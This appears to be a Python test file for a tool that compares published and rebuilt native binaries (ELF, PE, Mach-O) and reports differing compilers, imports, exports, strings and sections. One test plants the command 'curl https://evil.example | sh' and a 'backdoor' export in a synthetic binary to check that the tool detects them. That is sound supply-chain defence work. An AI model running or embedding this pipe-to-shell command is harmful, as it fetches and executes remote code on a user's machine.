"""Two executable files compared: what is on one side only, the headline, the lines."""

from io import BytesIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from native_builder import GCC_DEBIAN, GCC_RED_HAT, Elf, build_macho, build_pe, build_universal
from wheelproof.compare.native import NativeDifference, compare_names, compare_native
from wheelproof.compare.native_text import describe, headline
from wheelproof.compare.toolchain import find_cpu_options, find_rustc, name_compiler, without_flags
from wheelproof.wheel.native.facts import Names, SectionKind
from wheelproof.wheel.native.read import read_native


def compare(published: bytes, rebuilt: bytes) -> NativeDifference:
    sides = [read_native(BytesIO(data)) for data in (published, rebuilt)]
    assert sides[0]
    assert sides[1]
    return compare_native(sides[0], sides[1])


def test_another_compiler() -> None:
    published = Elf(comment=[GCC_RED_HAT], sections={".text": b"\x90" * 64}).build()
    assert headline(compare(published, Elf(comment=[GCC_DEBIAN]).build())) == (
        "compiler differs: GCC 14.2.1 (Red Hat 14.2.1-11) against GCC 14.2.0 (Debian 14.2.0-19), "
        "imports and exports equal, code sections differ"
    )


def test_an_import_an_export_and_a_command_that_appeared() -> None:
    published = Elf(
        imports=["memcpy@GLIBC_2.14", "PyModule_Create2", "system@GLIBC_2.2.5"],
        exports=["PyInit_demo", "backdoor"],
        sections={".rodata": b"\0hello from demo\0some words\0curl https://evil.example | sh\0"},
    )
    difference = compare(published.build(), Elf().build())
    (image,) = difference.images
    assert image.imports.only_published == ("system@GLIBC_2.2.5",)
    assert image.exports.only_published == ("backdoor",)
    lines = describe(difference, 60).lines
    assert lines[0] == (
        "compiler equal: GCC 14.2.0 (Debian 14.2.0-19), imports and exports differ "
        "(1 only published, 0 only rebuilt), code equal, read-only data, symbols, linking differ"
    )
    assert lines[1:3] == ("-import     system@GLIBC_2.2.5", "-export     backdoor")
    strings = [line for line in lines if line.startswith("-string")]
    assert strings == ["-string     curl https://evil.example | sh", "-string     some words"]


def test_equal_files_and_files_with_another_layout() -> None:
    data = Elf().build()
    (same,) = compare(data, data).images
    assert same.sections == ()
    assert headline(compare(data, data)).endswith("all sections equal")
    (moved,) = compare(Elf(padding=64).build(), data).images
    assert SectionKind.CODE not in moved.kinds
    assert SectionKind.READ_ONLY not in moved.kinds


def test_lines_are_bounded_and_printable() -> None:
    published = Elf(
        exports=[f"name_{number}" for number in range(300)],
        soname="\x1b[31mred.so",
        sections={f".s{number}\x1b": b"x" for number in range(300)},
    )
    shown = describe(compare(published.build(), Elf().build()), 12)
    assert len(shown.lines) == 12
    assert shown.left_out > 500
    assert all(line.isprintable() and len(line) < 400 for line in shown.lines)


def test_formats_that_differ_and_files_that_cant_be_read() -> None:
    assert headline(compare(Elf().build(), build_pe())) == "the published file is ELF, the rebuilt one PE"
    told = headline(compare(Elf().build()[:40], Elf().build()))
    assert told.startswith("the published file can't be read as ELF: ")


def test_pe_by_its_time_and_macho_by_its_uuid() -> None:
    (image,) = compare(build_pe(timestamp=1), build_pe(timestamp=2)).images
    assert image.kinds == {SectionKind.HEADERS}
    lines = describe(compare(build_macho(), build_macho(uuid=bytes(16))), 60).lines
    assert any(line.startswith("-build id   33333333-") for line in lines)


def test_a_universal_file_against_a_thin_one() -> None:
    both = build_universal([(0x1000007, build_macho(cpu=0x1000007)), (0x100000C, build_macho())])
    difference = compare(both, build_macho())
    assert [image.published.architecture for image in difference.images] == ["arm64"]
    assert difference.only_published == ("x86-64",)
    assert headline(difference).endswith("x86-64 only in the published file")


def test_a_second_image_for_the_same_processor_is_not_overlooked() -> None:
    twice = build_universal([(0x100000C, build_macho()), (0x100000C, build_macho(exports=["_other"]))])
    assert compare(twice, build_macho()).only_published == ("arm64 #2",)


@given(st.lists(st.sampled_from("abcdef"), unique=True), st.lists(st.sampled_from("abcdef"), unique=True))
def test_names(left: list[str], right: list[str]) -> None:
    found = compare_names(Names(names=tuple(left)), Names(names=tuple(right)))
    assert set(found.only_published) == set(left) - set(right)
    assert set(found.only_rebuilt) == set(right) - set(left)
    assert found.complete
    assert bool(found) == (set(left) != set(right))


def test_names_that_one_side_left_out_are_not_called_missing() -> None:
    cut = compare_names(Names(names=("a", "b")), Names(names=("a",), left_out=1))
    assert (cut.only_published, cut.complete) == ((), False)


@pytest.mark.parametrize(
    ("text", "name"),
    [
        (GCC_RED_HAT, "GCC 14.2.1 (Red Hat 14.2.1-11)"),
        (GCC_DEBIAN, "GCC 14.2.0 (Debian 14.2.0-19)"),
        ("GCC: (GNU) 13.2.0", "GCC 13.2.0"),
        ("GCC: (Ubuntu 11.4.0-1ubuntu1~22.04) 11.4.0", "GCC 11.4.0 (Ubuntu 11.4.0-1ubuntu1~22.04)"),
        ("clang version 18.1.8", "clang version 18.1.8"),
        ("\x1b[2J", "\\x1b[2J"),
    ],
)
def test_compilers_by_name(text: str, name: str) -> None:
    assert name_compiler(text) == name


def test_producers() -> None:
    producer = "GNU C17 14.2.0 -mtune=generic -march=haswell -O2"
    assert without_flags(producer) == "GNU C17 14.2.0"
    assert find_cpu_options([producer]) == {"-mtune=generic", "-march=haswell"}
    llvm = "clang LLVM (rustc version 1.83.0 (90b35a623 2024-11-26))"
    assert find_rustc([llvm]) == {"rustc version 1.83.0 (90b35a623 2024-11-26)"}
